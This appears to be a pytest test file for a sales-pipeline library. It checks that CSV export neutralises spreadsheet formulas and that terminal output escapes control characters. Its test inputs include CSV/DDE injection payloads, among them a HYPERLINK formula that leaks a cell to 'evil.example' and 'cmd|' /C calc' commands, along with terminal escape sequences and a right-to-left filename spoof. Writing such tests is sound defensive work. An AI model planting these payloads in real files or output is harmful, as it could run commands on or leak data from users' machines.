"""CSV written by the library is safe in a spreadsheet, text for a terminal shows control
characters escaped (issue 12, items 5 and 6; CONTRACT §12)."""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from _helpers import T0, day
from salesstages import Event, Pipeline, Stage
from salesstages._text import FORMULA_START, csv_cell, csv_uncell, terminal
from salesstages.io import read_csv, write_csv
from salesstages.report import build_report, render_csv, render_text
from salesstages.report._text import table

# ---------------------------------------------------------------------- csv_cell
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_csv_cell_neutralises_formulas(text: str) -> None:
    """A cell a spreadsheet would run as a formula gets a leading quote."""
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("'=1", "''=1"),  # an existing quote before a formula: one more, so reading undoes one
        ("''", "'''"),
        ("'tis", "'tis"),  # a quote before anything else stays as it is
        ("'", "'"),
        ("", ""),
        ("ACME-1", "ACME-1"),
        ("a=b", "a=b"),
        (5, 5),  # numbers stay numbers, negative ones included
        (-5, -5),
        (-2.5, -2.5),
        (None, None),
    ],
)
def test_csv_cell_leaves_the_rest(value: object, written: object) -> None:
    """Other text and every number are written as they are."""
    assert csv_cell(value) == written


@given(text=st.text())
def test_csv_cell_round_trips(text: str) -> None:
    """csv_uncell undoes csv_cell for any text, and the written cell never starts a formula."""
    cell = csv_cell(text)
    assert csv_uncell(cell) == text
    assert cell[:1] not in FORMULA_START


# ---------------------------------------------------------------------- terminal
@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("ACME\x1b]0;pwned\x07\x1b[2J", "ACME\\x1b]0;pwned\\x07\\x1b[2J"),
        ("too\nexpensive", "too\\x0aexpensive"),
        ("a\r\nb", "a\\x0d\\x0ab"),
        ("tab\there", "tab\\x09here"),
        ("nul\x00", "nul\\x00"),
        ("del\x7f", "del\\x7f"),
        ("c1\x9b31m", "c1\\x9b31m"),  # the 8-bit CSI
        ("evil\u202etxt.exe", "evil\\u202etxt.exe"),  # right-to-left override
        ("line\u2028sep", "line\\u2028sep"),
        ("Zoë 🚀 — ok", "Zoë 🚀 — ok"),
        ("C:\\path", "C:\\path"),
    ],
)
def test_terminal_escapes_controls(text: str, shown: str) -> None:
    """Control characters become visible escapes; printable text is unchanged."""
    assert terminal(text) == shown


@given(text=st.text())
def test_terminal_output_is_one_printable_line(text: str) -> None:
    """Whatever the text, the result has no control character and no line break."""
    out = terminal(text)
    assert not any(unicodedata.category(c) == "Cc" for c in out)
    assert len(out.splitlines()) <= 1


def test_table_escapes_every_cell_and_header() -> None:
    """A table row stays one line whatever its cells hold."""
    out = table(["deal\x1b[2J", "n"], [["A\nB", "1"], ["C", "2\x07"]])
    # widths: "deal\\x1b[2J" is 11 characters, "2\\x07" 5; the first column is left-aligned
    assert out.splitlines() == [
        "deal\\x1b[2J" + "  " + "    n",
        "-" * 11 + "  " + "-" * 5,
        "A\\x0aB     " + "  " + "    1",
        "C          " + "  " + "2\\x07",
    ]


# ---------------------------------------------------------------------- the report
def _pipeline() -> Pipeline:
    return Pipeline(
        "p\x1b[31m",
        [
            Stage("a", label="Stage\nA", rot_after=timedelta(days=1)),
            Stage("b"),
            Stage("won", outcome="won"),
            Stage("lost", outcome="lost"),
        ],
    )


EVIL_ID = '=HYPERLINK("http://x")\x1b]0;pwned\x07\x1b[2J'
EVIL_OWNER = "@SUM(1)\r\nforged,row"
EVIL_REASON = "+too expensive\nfake-reason  99  1,000"


def _events() -> list[Event]:
    p = _pipeline()
    events: list[Event] = []
    deal = p.open_deal(EVIL_ID, at=T0, amount=100, owner=EVIL_OWNER)
    deal.update(at=day(1), amount=120)
    events += deal.events
    lost = p.open_deal("-L1", at=T0, amount=50, owner="\tann")
    lost.lose(at=day(2), reason=EVIL_REASON)
    events += lost.events
    won = p.open_deal("W1", at=T0, amount=80, owner="ann")
    won.win(at=day(3))
    events += won.events
    return events


def test_csv_report_runs_no_formula() -> None:
    """No text cell of the CSV report starts a formula; numbers stay plain numbers."""
    report = build_report(_events(), _pipeline(), by="owner", as_of=day(10))
    rows = list(csv.reader(io.StringIO(render_csv(report))))
    texts = [c for r in rows for c in r]
    assert any(c == "'" + EVIL_REASON for c in texts)  # the reason, neutralised
    assert any(c == "'" + EVIL_ID for c in texts)  # a stalled deal's id
    assert any(c == "'" + EVIL_OWNER for c in texts)  # a segment
    for cell in texts:
        if cell[:1] in FORMULA_START:
            float(cell)  # only a negative number may start with "-"


def test_text_report_escapes_and_keeps_one_row_per_value() -> None:
    """Ids, owners, reasons, labels and the pipeline name reach the terminal escaped;
    a newline in a lost reason does not forge a row."""
    report = build_report(_events(), _pipeline(), by="owner", as_of=day(10))
    text = render_text(report)
    assert "\x1b" not in text
    assert "\x07" not in text
    assert "\r" not in text
    reason_rows = [line for line in text.splitlines() if "expensive" in line]
    assert reason_rows == [
        next(line for line in text.splitlines() if line.startswith("+too expensive\\x0a"))
    ]
    assert "fake-reason" in reason_rows[0]  # on the same line: no forged row
    assert not any(line.startswith("fake-reason") for line in text.splitlines())
    assert "p\\x1b[31m" in text.splitlines()[0]
    assert "Stage\\x0aA" in text
    assert "@SUM(1)\\x0d\\x0aforged,row" in text


# ---------------------------------------------------------------------- io.write_csv
_TEXT = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=12)


@given(
    deal_id=_TEXT | st.sampled_from(ATTACKS) | st.sampled_from(["'=x", "''", "'"]),
    stage=st.none() | _TEXT | st.sampled_from(ATTACKS),
    name=st.none() | _TEXT | st.sampled_from(ATTACKS),
)
def test_write_csv_round_trips_and_runs_no_formula(
    deal_id: str, stage: str | None, name: str | None
) -> None:
    """What write_csv writes, read_csv reads back equal, and no cell starts a formula."""
    events = [
        Event(deal_id=deal_id, seq=0, at=T0, kind="opened", data={"note": "=1+1"}),
        Event(deal_id=deal_id, seq=1, at=T0, kind="activity", stage=stage, name=name),
    ]
    buf = io.StringIO(newline="")
    write_csv(events, buf)
    text = buf.getvalue()
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert cell[:1] not in FORMULA_START
    assert read_csv(io.StringIO(text, newline="")) == events


def test_write_csv_neutralises_a_formula_id() -> None:
    """A deal id written as a formula is stored with the quote a spreadsheet reads as text."""
    buf = io.StringIO(newline="")
    write_csv([Event(deal_id="=cmd", seq=0, at=T0, kind="opened")], buf)
    assert buf.getvalue().splitlines()[1].startswith("'=cmd,0,")
